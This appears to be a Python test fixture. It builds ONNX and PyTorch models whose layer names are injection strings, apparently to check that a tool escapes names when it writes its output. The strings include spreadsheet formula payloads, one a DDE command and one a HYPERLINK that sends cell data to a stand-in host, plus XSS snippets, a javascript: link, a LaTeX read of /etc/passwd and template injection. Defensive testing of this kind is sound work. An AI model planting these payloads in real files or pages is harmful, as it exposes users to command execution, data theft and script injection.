"""Names that mean harm to what reads a file, and networks whose layers are called so."""

from pathlib import Path

import onnx
from onnx import TensorProto, helper
from torch import nn

NAMES = (
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</text></svg><script>alert(1)</script>",
    "[open](javascript:alert(1))",
    "![x](http://x.example/x.png)",
    "<javascript:alert(1)>",
    "http://x.example/ www.x.example",
    "a|b|c",
    "`a` ``b``",
    "**a** __b__ ~~c~~ *d* _e_",
    "\\input{/etc/passwd}",
    "50 % off # {x} ~ ^",
    "$x^2$ $$y$$ \\$z",
    "\"a\" 'b'",
    "two\nlines",
    "nul\0 bell\a escape\x1b[31m delete\x7f",
    "right\u200fto\u202eleft",
    "\u0645\u0648\u0628\u0627\u064a\u0644",
    "\u5377\u79ef\u7f51\u7edc",
    "\U0001f436 \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "]]> <![CDATA[x]]> <!-- x -->",
    "{{ 7*7 }} {% x %}",
    "%%{init: {'theme':'dark'}}%%",
    "a#quot;b #35; &quot; &lt;b&gt; &#60;",
    "a --> b; c",
    "end",
    "a\\lb\\Nc\\G\\",
    'b0"] --> x["y',
    "_x0041_ _x000D_",
    "long " * 4000,
)


def onnx_file(folder: Path) -> Path:
    """A convolution of every name, each behind an operator that is not counted."""
    nodes, last = [], "image"
    weight = helper.make_tensor("w", TensorProto.FLOAT, (3, 3, 1, 1), [0.0] * 9)
    for number, name in enumerate(NAMES):
        mine, theirs = f"c{number}", f"o{number}"
        nodes.append(helper.make_node("Conv", [last, "w"], [mine], name=name))
        nodes.append(helper.make_node("Hardmax", [mine], [theirs], name=f"{name} max"))
        last = theirs
    graph = helper.make_graph(nodes, "g", [_value("image")], [_value(last)], [weight])
    path = folder / "=1+1 <b>$x$ [a](b) | `c` {{d}} %%{e}.onnx"
    sets = [helper.make_opsetid("", 18)]
    onnx.save(helper.make_model(graph, opset_imports=sets, ir_version=9), path)
    return path


def _value(name: str) -> onnx.ValueInfoProto:
    return helper.make_tensor_value_info(name, TensorProto.FLOAT, (1, 3, 8, 8))


def module() -> nn.Module:
    """A module and its layers with such names, those that torch takes."""
    maker = type('=1+1 <img src=x onerror=alert(1)> | "$', (nn.Sequential,), {})
    made = maker()
    for name in NAMES:
        made.add_module(name.replace(".", ",")[:300], nn.Conv2d(3, 3, 1))
    return made.eval()
